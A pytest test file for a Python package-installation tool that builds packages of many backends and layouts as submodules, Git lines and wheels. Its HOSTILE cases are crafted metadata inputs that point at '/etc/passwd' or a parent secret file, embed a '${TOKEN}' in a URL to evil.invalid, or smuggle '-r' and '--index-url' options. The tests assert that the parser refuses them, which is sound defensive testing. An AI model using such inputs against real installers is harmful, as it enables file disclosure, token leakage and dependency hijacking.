"""Packages as they really are: each build backend, layout and kind of metadata, as submodule, Git line and wheel.

Build backends come from PyPI, and extensions are compiled by the C compiler of the machine.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
import uv
from private_packages import needs, package_files, unbuilt
from private_packages.errors import Unreadable
from world import World, new_world
from world import source as plain_source

from demo import runs
from demo.git import run_git
from demo.git_host import GitHost
from demo.samples import commit, make_repository

STRATEGIES = ("submodule", "git", "index")
# How this machine reaches PyPI, and the cache that holds the build backends.
MACHINE = {
    **{name: value for name, value in os.environ.items() if name.startswith(("PIP_", "UV_"))},
    "UV_CACHE_DIR": subprocess.run(
        [uv.find_uv_bin(), "cache", "dir"], capture_output=True, text=True, check=True
    ).stdout.strip(),
}
BACKENDS = (
    *(
        "setuptools>=77",
        "setuptools-scm",
        "hatchling",
        "hatch-vcs",
        "flit_core",
        "pdm-backend",
        "poetry-core",
    ),
    "uv_build",
)
SETUPTOOLS = '[build-system]\nrequires = ["setuptools>=77"]\nbuild-backend = "setuptools.build_meta"\n'
RUN = "def run() -> str:\n    return 'ran {}'\n"


def built_by(requires: str, backend: str) -> str:
    return f'[build-system]\nrequires = ["{requires}"]\nbuild-backend = "{backend}"\n'


def project(name: str, more: str = "") -> str:
    """What PEP 621 has a package say."""
    return f'[project]\nname = "acme-{name}"\nversion = "1.0"\ndescription = "One."\n{more}'


@dataclass(frozen=True)
class Shape:
    """A repository and the package in it.

    module: what is imported of it; its `run()` returns `ran <name>`. repository: where several share one;
    subdirectory: where the package lies in it.
    """

    files: Mapping[str, str]
    module: str
    repository: str = ""
    subdirectory: str = ""


def source(name: str, *, src: bool = True) -> dict[str, str]:
    """One package with a module."""
    return {f"{'src/' if src else ''}acme_{name}/__init__.py": RUN.format(name)}


_SETUP = (
    "from setuptools import setup\n"
    "setup(name='acme-setup', version='1.0', packages=['acme_setup'],"
    " install_requires=['six'])\n"
)
_CFG = "[metadata]\nname = acme-cfg\nversion = 1.0\n[options]\npackage_dir =\n    =src\npackages = find:\ninstall_requires =\n    six\n[options.packages.find]\nwhere = src\n"
_SIX = "import six\ndef run() -> str:\n    return six.ensure_str(b'ran {}')\n"
_VERSION = "import importlib.metadata\nassert importlib.metadata.version('acme-{0}') == '{1}'\n"
_NATIVE = """
#include <Python.h>
static PyObject *run(PyObject *self, PyObject *nothing) { return PyUnicode_FromString("ran native"); }
static PyMethodDef methods[] = {{"run", run, METH_NOARGS, ""}, {0}};
static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "_core", "", -1, methods};
PyMODINIT_FUNC PyInit__core(void) { return PyModule_Create(&module); }
"""
_MONO = {
    f"packages/{side}/{path}": text
    for side in ("left", "right")
    for path, text in {
        "pyproject.toml": SETUPTOOLS
        + project(side, 'dependencies = ["acme-right"]\n' if side == "left" else ""),
        f"src/acme_{side}/__init__.py": ("import acme_right\n" if side == "left" else "") + RUN.format(side),
    }.items()
}

SHAPES = {
    "pyproject": Shape(
        {"pyproject.toml": SETUPTOOLS + project("pyproject"), **source("pyproject")}, "acme_pyproject"
    ),
    "cfg": Shape(
        {"pyproject.toml": SETUPTOOLS, "setup.cfg": _CFG, "src/acme_cfg/__init__.py": _SIX.format("cfg")},
        "acme_cfg",
    ),
    "setup": Shape(
        {"setup.py": _SETUP, "acme_setup/__init__.py": _SIX.format("setup")},
        "acme_setup",
    ),
    "hatchling": Shape(
        {
            "pyproject.toml": built_by("hatchling", "hatchling.build") + project("hatchling"),
            **source("hatchling"),
        },
        "acme_hatchling",
    ),
    "flit": Shape(
        {
            "pyproject.toml": built_by("flit_core", "flit_core.buildapi")
            + project("flit").replace('version = "1.0"\n', 'dynamic = ["version"]\n'),
            "acme_flit.py": '"""One."""\n__version__ = "1.0"\n' + RUN.format("flit"),
        },
        "acme_flit",
    ),
    "pdm": Shape(
        {"pyproject.toml": built_by("pdm-backend", "pdm.backend") + project("pdm"), **source("pdm")},
        "acme_pdm",
    ),
    "poetry": Shape(
        {
            "pyproject.toml": built_by("poetry-core", "poetry.core.masonry.api")
            + '[tool.poetry]\nname = "acme-poetry"\nversion = "1.0"\ndescription = "One."\nauthors = []\n'
            + '[tool.poetry.dependencies]\npython = "^3.11"\nsix = "^1.16"\n',
            "acme_poetry/__init__.py": _SIX.format("poetry"),
        },
        "acme_poetry",
    ),
    "uvbuild": Shape(
        {"pyproject.toml": built_by("uv_build", "uv_build") + project("uvbuild"), **source("uvbuild")},
        "acme_uvbuild",
    ),
    "scm": Shape(
        {
            "pyproject.toml": SETUPTOOLS.replace("77", '77", "setuptools-scm')
            + project("scm").replace('version = "1.0"\n', 'dynamic = ["version"]\n')
            + "[tool.setuptools_scm]\n",
            "src/acme_scm/__init__.py": _VERSION.format("scm", "1.0") + RUN.format("scm"),
        },
        "acme_scm",
    ),
    "hatchvcs": Shape(
        {
            "pyproject.toml": built_by('hatchling", "hatch-vcs', "hatchling.build")
            + project("hatchvcs").replace('version = "1.0"\n', 'dynamic = ["version"]\n')
            + '[tool.hatch.version]\nsource = "vcs"\n[tool.hatch.build.hooks.vcs]\nversion-file = "src/acme_hatchvcs/_version.py"\n',
            ".gitignore": "_version.py\n",
            "src/acme_hatchvcs/__init__.py": "from ._version import version\nassert version == '1.0'\n"
            + RUN.format("hatchvcs"),
        },
        "acme_hatchvcs",
    ),
    "native": Shape(
        {
            "pyproject.toml": SETUPTOOLS + project("native"),
            "setup.py": "from setuptools import Extension, setup\n"
            "setup(ext_modules=[Extension('acme_native._core', ['src/core.c'])])\n",
            "src/core.c": _NATIVE,
            "src/acme_native/__init__.py": "from acme_native._core import run\n",
        },
        "acme_native",
    ),
    "legacy": Shape(
        {
            "setup.py": "from setuptools import Extension, setup\n"
            "setup(name='acme-legacy', version='1.0', packages=['acme_legacy'],"
            " ext_modules=[Extension('acme_legacy._core', ['core.c'])])\n",
            "core.c": _NATIVE.replace("native", "legacy"),
            "acme_legacy/__init__.py": "from acme_legacy._core import run\n",
        },
        "acme_legacy",
    ),
    "one": Shape(
        {"pyproject.toml": SETUPTOOLS + project("one"), "src/acme/one.py": RUN.format("one")}, "acme.one"
    ),
    "two": Shape(
        {
            "pyproject.toml": built_by("hatchling", "hatchling.build")
            + project("two")
            + '[tool.hatch.build.targets.wheel]\npackages = ["src/acme"]\n',
            "src/acme/two.py": RUN.format("two"),
        },
        "acme.two",
    ),
    "left": Shape(_MONO, "acme_left", "acme-mono", "packages/left"),
    "right": Shape(_MONO, "acme_right", "acme-mono", "packages/right"),
    "elder": Shape(
        {
            "pyproject.toml": SETUPTOOLS + project("elder", 'dependencies = ["acme-younger>=1"]\n'),
            "src/acme_elder/__init__.py": "import acme_younger\n" + RUN.format("elder"),
        },
        "acme_elder",
    ),
    "younger": Shape(
        {
            "pyproject.toml": SETUPTOOLS + project("younger", 'dependencies = ["acme-elder>=1"]\n'),
            **source("younger"),
        },
        "acme_younger",
    ),
    "data": Shape(
        {
            "pyproject.toml": SETUPTOOLS + project("data"),
            "MANIFEST.in": "recursive-include src *.txt\n",
            "src/acme_data/tables/steel.txt": "ran data",
            "src/acme_data/__init__.py": "from importlib.resources import files\n"
            "def run() -> str:\n    return (files('acme_data') / 'tables' / 'steel.txt').read_text()\n",
        },
        "acme_data",
    ),
    "entry": Shape(
        {
            "pyproject.toml": SETUPTOOLS
            + project("entry", '[project.scripts]\nacme-entry = "acme_entry:main"\n')
            + '[project.entry-points."acme.plugins"]\nentry = "acme_entry:run"\n',
            "src/acme_entry/__init__.py": RUN.format("entry") + "def main() -> None:\n    print(run())\n",
        },
        "acme_entry",
    ),
    "bare": Shape({"acme_bare/__init__.py": RUN.format("bare")}, "acme_bare"),
}


@dataclass(frozen=True)
class Shelf(World):
    """A world whose PyPI is the real one, with uv's cache of the machine."""

    @property
    def environment(self) -> dict[str, str]:
        ours = {
            name: value
            for name, value in super().environment.items()
            if not name.startswith(("PIP_", "UV_")) and name != "PRIVATE_PACKAGES_TIMEOUT"
        }
        return MACHINE | ours

    def table(self, name: str, strategy: str) -> str:
        """The table of a shape's package."""
        shape = SHAPES[name]
        if strategy == "index":
            return self.from_index(f"acme-{name}==1.0")
        table = self.from_git(f"acme-{name}", "v1.0", strategy, shape.subdirectory)
        return table.replace(f"acme/acme-{name}.git", f"acme/{shape.repository or f'acme-{name}'}.git")

    def ran(self, *names: str) -> dict[str, str]:
        """What each package says in the app, in one `exec python`; or why it does not run."""
        first = "import app" if (self.app / "app" / "__init__.py").exists() else ""
        modules = {name: SHAPES[name].module for name in names}
        code = (
            f"import json, importlib\n{first}\nsaid = {{}}\nfor name, module in {modules}.items():\n"
            "    try:\n        said[name] = importlib.import_module(module).run()\n"
            "    except ImportError as error:\n        said[name] = str(error)\nprint(json.dumps(said))\n"
        )
        done = self.command("exec", "python", "-c", code)
        return json.loads(done.stdout) if done.returncode == 0 else {"": done.stderr}


@pytest.fixture(scope="module")
def shelf(isolated: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shelf]:
    """Every shape in its repository, and as a wheel on the private index."""
    with new_world(tmp_path_factory.mktemp("packages")) as world:
        made = Shelf(**{name: getattr(world, name) for name in World.__dataclass_fields__})
        for name, shape in SHAPES.items():
            repository = shape.repository or f"acme-{name}"
            if not made.git.path_of(repository).exists():
                make_repository(made.git.root / "acme", repository, shape.files, tags=["v1.0"])
        backends = made.scratch / "backends"
        install = (uv.find_uv_bin(), "pip", "install", "--quiet", "--python", backends, *BACKENDS)
        for command in ((uv.find_uv_bin(), "venv", "--quiet", "--python", runs.PYTHON, backends), install):
            assert made.run(*command).returncode == 0
        with ThreadPoolExecutor(2) as pool:
            list(pool.map(lambda name: build(made, name), names_for("index")))
        release(made)
        yield made


def build(world: Shelf, name: str) -> None:
    """Build a shape's wheel onto the private index."""
    shape = SHAPES[name]
    clone = world.scratch / "builds" / name
    repository = world.git.path_of(shape.repository or f"acme-{name}")
    subprocess.run(["git", "clone", "--quiet", repository, clone], check=True)
    command = (uv.find_uv_bin(), "build", "--quiet", "--wheel", "--no-build-isolation")
    command += ("--python", str(world.scratch / "backends"))
    done = world.run(*command, "--out-dir", world.private.folder, clone / shape.subdirectory)
    assert done.returncode == 0, done.stderr


def fresh(shelf: Shelf, platform: str = "python") -> None:
    """An app that wants nothing, with an empty environment."""
    shelf.want(prefixes=["acme-"], platform=platform)
    shelf.make_environment()


def names_for(strategy: str) -> list[str]:
    """Nobody can install a package without metadata from anywhere, so it can be a submodule alone."""
    return [name for name in SHAPES if name != "bare" or strategy == "submodule"]


# --- Plain Python ---


@pytest.mark.slow
@pytest.mark.parametrize("strategy", STRATEGIES)
def test_one_install_brings_packages_of_every_shape_to_run(shelf: Shelf, strategy: str):
    """Siblings that need each other, two packages of one repository and two parts of a namespace among them."""
    fresh(shelf)
    names = names_for(strategy)
    shelf.want(shelf.index(), *[shelf.table(name, strategy) for name in names], prefixes=["acme-"])
    done = shelf.command("install")
    assert done.returncode == 0, done.stdout + done.stderr
    assert shelf.ran(*names) == {name: f"ran {name}" for name in names}
    script = shelf.command("exec", "acme-entry")
    assert script.stdout == "ran entry\n", script.stderr
    if strategy == "submodule":
        # What was built there is nothing that Git would commit or that stands in the way of a move.
        for name in names:
            folder = shelf.app / "app" / "submodules" / f"acme-{name}"
            assert shelf.run("git", "-C", folder, "status", "--porcelain").stdout == "", name


# --- VIKTOR ---

# What `status` says of the submodule; of the others it is made to run.
NOT_ON_VIKTOR = {
    "scm": "acme_scm asks for the version that an installation has",
    "hatchvcs": "acme_hatchvcs._version is made when it is built",
    "native": "setup.py compiles a part of it",
    "legacy": "setup.py compiles a part of it",
}


@pytest.fixture
def viktor(shelf: Shelf) -> Shelf:
    """An app on VIKTOR: its package `app` imports the finder first, as the platform does the app."""
    fresh(shelf)
    (shelf.app / "app").mkdir(exist_ok=True)
    (shelf.app / "app" / "__init__.py").write_text("from app import _submodules  # noqa: F401\n")
    yield shelf
    (shelf.app / "app" / "__init__.py").unlink()


@pytest.mark.slow
def test_on_viktor_submodules_run_unbuilt_or_status_says_why_not_and_what_to_choose(viktor: Shelf):
    names = list(SHAPES)
    tables = [viktor.table(name, "submodule") for name in names]
    viktor.want(viktor.index(), *tables, prefixes=["acme-"], platform="viktor")
    done = viktor.command("install")
    said = done.stdout + done.stderr
    assert done.returncode == 1
    for name, why in NOT_ON_VIKTOR.items():
        cure = (
            "VIKTOR builds and installs nothing in app/submodules; take it from the index, or by a Git line"
        )
        assert f"acme-{name}: {why}, and {cure}." in said
    assert said.count("VIKTOR builds") == len(NOT_ON_VIKTOR)
    assert "Type: copier update --vcs-ref :current: --trust" in said
    runs = [name for name in names if name not in NOT_ON_VIKTOR]
    assert viktor.ran(*runs) == {name: f"ran {name}" for name in runs}
    failed = viktor.ran(*NOT_ON_VIKTOR)
    assert not [name for name, text in failed.items() if text == f"ran {name}"], failed


@pytest.mark.slow
@pytest.mark.parametrize("strategy", ["git", "index"])
def test_on_viktor_git_lines_and_wheels_of_every_shape_run(viktor: Shelf, strategy: str):
    """The platform's pip builds and installs them: what only a build makes is there, unlike in a submodule."""
    names = names_for(strategy)
    tables = [viktor.table(name, strategy) for name in names]
    viktor.want(viktor.index(), *tables, prefixes=["acme-"], platform="viktor")
    done = viktor.command("install")
    assert done.returncode == 0, done.stdout + done.stderr
    assert viktor.ran(*names) == {name: f"ran {name}" for name in names}


def test_on_viktor_what_setup_cfg_poetry_and_requirements_files_say_that_a_package_needs_is_taken_over(
    viktor: Shelf,
):
    tables = [viktor.table(name, "submodule") for name in ("cfg", "poetry", "setup")]
    viktor.want(*tables, prefixes=["acme-"], platform="viktor")
    block = viktor.requirements.read_text()
    assert "# needed by acme-cfg:\nsix\n" in block
    assert "# needed by acme-poetry:\nsix>=1.16,<2\n" in block
    assert "# acme-setup: only building it tells what it needs; write that below this block\n" in block


def test_on_viktor_the_cure_after_an_install_is_never_that_install(viktor: Shelf):
    """The app itself imports a package whose needs only a build would tell."""
    entry = viktor.app / "app" / "__init__.py"
    entry.write_text(entry.read_text() + "import acme_setup\n")
    viktor.want(viktor.table("setup", "submodule"), prefixes=["acme-"], platform="viktor")
    done = viktor.command("install")
    said = done.stdout + done.stderr
    assert done.returncode == 1
    assert (
        "acme-setup: it imports six, which it does not name among what it needs;"
        " write what provides it into requirements.txt."
    ) in said
    assert "Type:" not in said
    viktor.write("six")
    # Now the installation is what is missing.
    assert "six is not installed" in viktor.command().stderr + viktor.command().stdout
    assert viktor.command("install").returncode == 0
    assert viktor.ran("setup") == {"setup": "ran setup"}
    viktor.requirements.write_text(viktor.requirements.read_text().replace("\nsix\n", "\n"))


# --- What is installed already ---


def versions(shelf: Shelf, *names: str) -> dict[str, str]:
    """The installed versions, by what the packages are called."""
    code = (
        "import importlib.metadata as m, json\n"
        f"print(json.dumps({{name: m.version('acme-' + name) for name in {names}}}))"
    )
    done = shelf.command("exec", "python", "-c", code)
    assert done.returncode == 0, done.stderr
    return dict(json.loads(done.stdout))


def release(shelf: Shelf) -> None:
    """Version 2.0 of a package with a compiled part, of one with its version in its tag, and a compiled one with a setup.py."""
    commit(
        shelf.git.path_of("acme-native"),
        {
            "src/core.c": _NATIVE.replace("ran native", "ran native 2"),
            "pyproject.toml": SHAPES["native"].files["pyproject.toml"].replace("1.0", "2.0"),
        },
        tag="v2.0",
    )
    commit(shelf.git.path_of("acme-scm"), {"src/acme_scm/__init__.py": SCM_2}, tag="v2.0")
    # Its version stays: nothing but the commit tells that it is another.
    legacy = {"core.c": _NATIVE.replace("native", "legacy").replace("ran legacy", "ran legacy 2")}
    commit(shelf.git.path_of("acme-legacy"), legacy, tag="v2.0")


SCM_2 = _VERSION.format("scm", "2.0") + RUN.format("scm 2")


@pytest.mark.slow
@pytest.mark.parametrize(("made_by", "strategy"), [("pip", "submodule"), ("uv", "git")])
def test_after_a_move_one_install_has_built_anew_what_is_compiled_and_what_has_its_version_in_a_tag(
    shelf: Shelf, strategy: str, made_by: str
):
    """In an environment that uv made, and in one that the standard library made and pip filled."""
    fresh(shelf)
    names = ("native", "scm", "legacy")
    if made_by == "pip":
        shutil.rmtree(shelf.app / ".venv")
        assert shelf.run(runs.PYTHON, "-m", "venv", ".venv").returncode == 0
        wheels = [file for name in names for file in shelf.private.folder.glob(f"acme_{name}-1.0-*.whl")]
        pip = (shelf.python, "-m", "pip", "install", "--quiet", "--no-deps", *wheels)
        assert len(wheels) == 3 and shelf.run(*pip).returncode == 0
    # The line of the one with the setup.py has another name: only its build tells its own.
    tables = [shelf.table(name, strategy) for name in names]
    if strategy == "submodule":
        tables[2] = (
            tables[2].replace('name = "acme-legacy"', 'name = "other"').replace('"acme-legacy @', '"other @')
        )
    shelf.want(*tables, prefixes=["acme-"])
    shelf.installs()
    assert versions(shelf, *names) == dict.fromkeys(names, "1.0")
    moved = [table.replace("@v1.0", "@v2.0").replace('"v1.0"', '"v2.0"') for table in tables]
    shelf.want(*moved, prefixes=["acme-"])
    shelf.installs()
    assert versions(shelf, *names) == {"native": "2.0", "scm": "2.0", "legacy": "1.0"}
    said = {"native": "ran native 2", "scm": "ran scm 2", "legacy": "ran legacy 2"}
    assert shelf.ran(*names) == said


@pytest.mark.slow
def test_real_packages_may_move_from_one_strategy_to_any_other_at_the_same_version(shelf: Shelf):
    """Right after one install nothing of the strategy before is imported: no path, no compiled part, no script."""
    fresh(shelf)
    names = ("native", "one", "two", "entry")
    for strategy in ("submodule", "index", "submodule", "git", "index"):
        tables = [shelf.table(name, strategy) for name in names]
        shelf.want(shelf.index(), *tables, prefixes=["acme-"])
        shelf.installs()
        assert shelf.ran(*names) == {name: f"ran {name}" for name in names}, strategy
        code = "import acme_native._core, acme.one, acme.two\n" + "".join(
            f"print({module}.__file__)\n" for module in ("acme_native._core", "acme.one", "acme.two")
        )
        places = shelf.command("exec", "python", "-c", code).stdout.splitlines()
        assert len(places) == 3
        assert {"submodules" in place for place in places} == {strategy == "submodule"}, places
        assert shelf.command("exec", "acme-entry").stdout == "ran entry\n"


@pytest.mark.parametrize("shape", ["setup", "cfg", "pyproject"])
def test_a_git_line_with_another_name_than_its_package_stops_with_the_name_to_write(shelf: Shelf, shape: str):
    """Also where only a build tells the name, as with a setup.py."""
    fresh(shelf)
    table = shelf.table(shape, "git")
    shelf.want(
        table.replace(f'name = "acme-{shape}"', 'name = "other"').replace(f'"acme-{shape} @', '"other @')
    )
    said = shelf.stops("install")
    cure = f"let its line begin with that name, as in `acme-{shape} @ git+https://…`"
    assert f"The repository holds a package called acme-{shape}: {cure}" in said
    assert "copier update --vcs-ref :current: --trust" in said


# --- What a repository holds beside a package ---


@pytest.fixture(scope="module")
def small(isolated: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """A world whose packages build without PyPI."""
    with new_world(tmp_path_factory.mktemp("small")) as world:
        yield world


def nest(world: World, scratch: Path, inner: Path, url: str) -> None:
    """Let acme-outer have a submodule, whose files are its package."""
    outer = world.repository("acme-outer", ref="v0")
    work = scratch / "outer"
    person = ("-c", "user.name=Acme", "-c", "user.email=acme@localhost.invalid")
    add = ("-c", "protocol.file.allow=always", "submodule", "--quiet", "add", "--name", "inner")
    run_git("clone", "--quiet", outer, work)
    run_git("-C", work, *add, inner, "acme_inner")
    run_git("-C", work, "config", "--file", ".gitmodules", "submodule.inner.url", url)
    run_git("-C", work, *person, "commit", "--quiet", "--all", "--message", "Nest")
    run_git("-C", work, "tag", "v1")
    run_git("-C", work, "push", "--quiet", "origin", "main", "v1")


@pytest.mark.parametrize("place", ["the same host", "another host", "another host, which no line names"])
def test_private_submodules_of_a_submodule_are_fetched_with_the_logins_of_their_hosts(
    small: World, tmp_path: Path, place: str
):
    """Each host has a token of its own; another package's line may name that of the other host."""
    small.reset()
    token = "SENTINEL-other-token-2342"
    (tmp_path / "other").mkdir()
    with GitHost(tmp_path / "other", token) as other:
        host = small.git if place == "the same host" else other
        inner = make_repository(host.root / "acme", "acme-inner", {"__init__.py": "ORIGIN = 'inner'\n"})
        make_repository(other.root / "acme", "acme-beside", source_of("acme-beside"), tags=["v1"])
        nest(small, tmp_path, inner, host.url_of("acme-inner"))
        tables = [small.submodule("acme-outer")]
        if place == "another host":
            beside = small.submodule("acme-beside").replace("ACME_TOKEN", "OTHER_TOKEN")
            tables.append(
                beside.replace(small.git.url, other.url).replace(authority(small.git), authority(other))
            )
        there = replace(small, variables={**small.variables, "OTHER_TOKEN": token})
        if place == "another host, which no line names":
            named = r"acme-outer: its own submodule \S+: " + re.escape(authority(other))
            cure = "wants a login, and no package of this app has one for it; add the line of a package there"
            with pytest.raises(AssertionError, match=f"{named} {cure}"):
                there.want(*tables)
            return
        there.want(*tables)
        there.commit()
        clone = there.clone()
        assert token not in clone.installs("--locked")
        assert clone.origin("acme-inner") == "inner"


def authority(host: GitHost) -> str:
    return host.url.partition("://")[2]


def source_of(name: str) -> dict[str, str]:
    return plain_source(name, "1.0", "private")


def test_pointers_of_git_lfs_are_not_called_ok(small: World):
    """Git checks them out in silence where git-lfs is not set up."""
    small.reset()
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "0" * 64 + "\nsize 9\n"
    path = small.repository("acme-beams")
    commit(
        path,
        {".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n", "tables/steel.bin": pointer},
        tag="v1",
    )
    small.want(small.submodule("acme-beams"))
    done = small.command("install")
    said = done.stdout + done.stderr
    assert done.returncode == 1
    assert (
        "acme-beams: tables/steel.bin is a pointer of Git LFS, not the file; install git-lfs, type `git lfs install`"
        in said
    )
    cure = "python -m private_packages exec git -C app/submodules/acme-beams lfs pull"
    assert f"Type: {cure}" in said
    # What the cure leaves is the file itself.
    (small.app / "app/submodules/acme-beams/tables/steel.bin").write_text("the steel")
    assert "pointer" not in small.command().stdout


def test_a_bare_repository_of_this_machine_is_a_line_of_the_user_s_own_once_it_may_be_built(small: World):
    """In the answers it would be no address for anybody else, and is refused there (tests/lines.py)."""
    small.reset()
    path = small.repository("acme-here")
    small.want()
    small.write(f"acme-here @ git+{path.as_uri()}@v1")
    said = small.stops("install")
    assert f"acme-here: it would be built from git+{path.as_uri()}@" in said
    assert "allow it in private-packages.allow.toml: a table [[build]] with its name and a reason" in said
    allowed = '[[build]]\nname = "acme-here"\nreason = "It is ours."\n'
    (small.app / "private-packages.allow.toml").write_text(allowed)
    try:
        small.installs()
    finally:
        (small.app / "private-packages.allow.toml").unlink()
    assert small.origin("acme-here") == "private"


# --- What older files say ---

POETRY = '[tool.poetry]\nname = "acme-x"\n[tool.poetry.dependencies]\npython = "^3.11"\n'
CFG = "[options]\ninstall_requires ="
FILES = '[project]\nname = "x"\ndynamic = ["dependencies"]\n[tool.setuptools.dynamic]\ndependencies = {{ file = [{}] }}\n'
SAID: dict[str, tuple[dict[str, str], list[str] | None]] = {
    "a caret": ({"pyproject.toml": POETRY + 'a = "^1.2.3"\nb = "^0.2.3"\nc = "^0.0.3"\nd = "^0"\n'},
        ["a>=1.2.3,<2", "b>=0.2.3,<0.3", "c>=0.0.3,<0.0.4", "d>=0,<1"]),
    "a tilde": ({"pyproject.toml": POETRY + 'a = "~1.2.3"\nb = "~1"\n'}, ["a>=1.2.3,<1.3", "b>=1,<2"]),
    "bare versions": ({"pyproject.toml": POETRY + 'a = "1.2"\nb = "*"\nc = "1.*"\nd = ">=1, <2"\n'},
        ["a==1.2", "b", "c==1.*", "d>=1,<2"]),
    "a table": ({"pyproject.toml": POETRY
        + "a = { version = \"^1\", extras = [\"x\"], markers = \"os_name == 'nt'\" }\nb = { version = \"1\", optional = true }\n"},
        ["a[x]>=1,<2 ; os_name == 'nt'"]),
    "an alternative": ({"pyproject.toml": POETRY + 'a = "^1 || ^2"\n'}, None),
    "a repository": ({"pyproject.toml": POETRY + 'a = { git = "https://evil.invalid/a.git" }\n'}, None),
    "setup.cfg in lines": ({"setup.py": "", "setup.cfg": f"{CFG}\n    # two\n    a>=1; os_name == 'nt'\n    b\n"},
        ["a>=1; os_name == 'nt'", "b"]),
    "setup.cfg in a line": ({"setup.py": "", "setup.cfg": f"{CFG} a; b\n"}, ["a", "b"]),
    "setup.cfg and a file": ({"setup.py": "", "setup.cfg": f"{CFG} file: needs.txt\n", "needs.txt": "a  # one\n\nb\n"},
        ["a", "b"]),
    "setup.cfg without needs": ({"setup.py": "", "setup.cfg": "[metadata]\nname = x\n"}, []),
    "a program": ({"setup.py": "setup(install_requires=['a'])"}, None),
    "files": ({"pyproject.toml": FILES.format('"a.txt", "in/b.txt"'), "a.txt": "a\n", "in/b.txt": "b\n"}, ["a", "b"]),
    "another backend": ({"pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'flit.buildapi'\n"}, None),
}  # fmt: skip


def write(folder: Path, files: Mapping[str, str]) -> Path:
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    return folder


@pytest.mark.parametrize("case", SAID)
def test_what_older_files_say_that_a_package_needs_is_read_without_running_any(tmp_path: Path, case: str):
    files, expected = SAID[case]
    assert needs.requirements_of(write(tmp_path, files)) == expected


HOSTILE = {
    "a file above": ({"pyproject.toml": FILES.format('"../secret.txt"')}, "is in a file that is not there"),
    "an absolute path": ({"pyproject.toml": FILES.format('"/etc/passwd"')}, "is in a file that is not there"),
    "a variable": ({"setup.py": "", "setup.cfg": f"{CFG} a @ http://evil.invalid/${{TOKEN}}\n"}, "is not a plain name"),
    "an option": ({"pyproject.toml": FILES.format('"a.txt"'), "a.txt": "-r /etc/passwd\n"}, "is not a plain name"),
    "a marker": ({"pyproject.toml": POETRY + "a = { version = \"1\", markers = \"os_name == '${TOKEN}'\" }\n"}, "is not a plain"),
    "a name": ({"pyproject.toml": POETRY + '"--index-url http://evil.invalid/ #" = "*"\n'}, "is not a plain name"),
    "no setup.cfg": ({"setup.py": "", "setup.cfg": "[options\n"}, "its setup.cfg cannot be read"),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_older_files_that_lead_elsewhere_are_refused_in_a_clause(tmp_path: Path, case: str):
    files, words = HOSTILE[case]
    (tmp_path / "secret.txt").write_text("secret\n")
    (tmp_path / "package").mkdir()
    with pytest.raises(Unreadable, match=re.escape(words)) as refused:
        needs.requirements_of(write(tmp_path / "package", files))
    assert "\n" not in str(refused.value)


LACKING = {
    "a part that is compiled": ({"setup.py": "setup(ext_modules=[])"}, "setup.py compiles a part of it"),
    "an optional part": ({"setup.py": "setup(ext_modules=[Extension('x', [], optional=True)])"}, ""),
    "rust": ({"pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'maturin'\n"}, "pyproject.toml compiles a part"),
    "a module that is not there": ({"x/__init__.py": "from ._version import version\n"}, "x._version is made when it is built"),
    "a module that is there": ({"x/__init__.py": "from ._version import version\n", "x/_version.py": ""}, ""),
    "one that it does without": ({"x/__init__.py": "try:\n    from ._v import v\nexcept ImportError:\n    v = ''\n"}, ""),
    "its version": ({"src/x/__init__.py": "from importlib.metadata import version\n__version__ = version('x')\n"}, "x asks for the"),
    "its version, if any": ({"x/__init__.py": "from importlib.metadata import version\ntry:\n    v = version('x')\nexcept Exception:\n    v = ''\n"}, ""),
    "a version function of its own": ({"x/__init__.py": "def version():\n    return 1\nv = version()\n"}, ""),
}  # fmt: skip


@pytest.mark.parametrize("case", LACKING)
def test_what_a_package_lacks_unbuilt_is_told_and_what_it_does_without_is_not(tmp_path: Path, case: str):
    files, words = LACKING[case]
    lacking = unbuilt.lacks(write(tmp_path, files))
    assert lacking.startswith(words) and bool(lacking) == bool(words)


@pytest.mark.skipif(sys.platform == "win32", reason="a link takes a privilege on Windows")
def test_a_source_folder_that_is_a_link_is_read_by_nobody(tmp_path: Path):
    """It may lead anywhere."""
    elsewhere = write(tmp_path / "elsewhere", {"acme/__init__.py": "from .made import x\n"})
    root = write(tmp_path / "package", {"pyproject.toml": "", "acme/__init__.py": ""})
    (root / "src").symlink_to(elsewhere)
    assert package_files.source_of(root) == root
    assert package_files.modules_in(root) == {"acme"}
    assert unbuilt.lacks(root) == ""
